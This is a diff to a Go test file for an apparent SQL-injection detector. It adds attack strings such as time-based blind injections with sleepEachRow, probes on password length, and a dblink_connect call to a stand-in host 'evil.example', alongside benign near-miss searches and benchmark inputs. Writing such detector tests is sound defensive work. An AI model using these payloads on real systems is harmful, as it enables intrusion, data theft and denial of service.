@@ -20,6 +20,15 @@ var sqlCallAttacks = []string{
 	"x' OR 1 BETWEEN 0 AND sleepEachRow(3)--", "x' OR 1 BETWEEN 0 AND lengthUTF8(password)--", "x' OR 1 AND sleepEachRow(3)=0--",
 	"x' OR 1=1 AND sleepEachRow(3)=0--", "x' OR 1 = 1 + sleepEachRow(3)--", "1 OR 1 BETWEEN 0 AND sleepEachRow(3)",
 	"1 OR 1 AND sleepEachRow(3)=0", "1 OR 0 = 1 + sleepEachRow(3)",
+	// attack 25's: a column, true, NULL or a call as an operand, NOT
+	// BETWEEN and NOT LIKE, more after the call, ClickHouse's distances,
+	// PostgreSQL's dblink
+	"x' OR id > sleepEachRow(3)--", "x' OR id BETWEEN 0 AND sleepEachRow(3)--", "x' OR name LIKE toString(sleepEachRow(3))--",
+	"x' OR id + sleepEachRow(3) = 0--", "x' OR true AND sleepEachRow(3)=0--", "x' OR NULL IS NULL AND sleepEachRow(3)=0--",
+	"x' OR e()>0 AND lengthUTF8(password)>5--", "x' OR 1 NOT BETWEEN 1 AND sleepEachRow(3)--", "x' OR 1 NOT LIKE toString(sleepEachRow(3))--",
+	"x' OR dblink_connect('host=evil.example')='OK'--",
+	"1 OR sleepEachRow(3) AND 1", "1 OR sleepEachRow(3) OR 1", "1 OR toUInt8(sleepEachRow(3)) AND 1", "1 OR sleepEachRow(3)::UInt8",
+	"1 OR id + sleepEachRow(3) = 0", "1 OR 1 NOT BETWEEN sleepEachRow(3) AND 0", "1 OR L2Distance([1],[sleepEachRow(3)])=0",
 }
 
 // sqlCallBenign are near-misses: code and prose with balanced quotes,
@@ -30,6 +39,8 @@ var sqlCallBenign = []string{
 	// attack 24's false positives: shop searches
 	"10 or iPhone12(mini)", "64 or iPad9(2021)", "128GB or iPhone13(mini)", "2 or PlayStation5(slim)", "1 or eBay(used)",
 	"5 and 2 or iPhone15(pro)",
+	// near attack 25's: searches with numbers, words and brackets
+	"16 or 32 GB (DDR5)", "1 or 2 USB(C)", "2 or 3 cases for iPhone12(mini)", "10 or more items (max 20)", "3 or 4 L2(cache)",
 }
 
 func TestSQLCall(t *testing.T) {
@@ -98,6 +109,8 @@ func BenchmarkSQLCall(b *testing.B) {
 		{"quotes", "' or '"},
 		{"calls", "x' OR 0=aB(1) "},
 		{"operands", "' or '" + strings.Repeat("a", 60) + "'='"},
+		{"names", "' or ab(cd) and ef "},
+		{"open brackets", "' or e" + strings.Repeat("(", 60)},
 	} {
 		v := strings.Repeat(c.unit, 64<<10/len(c.unit))
 		b.Run(c.name, func(b *testing.B) {
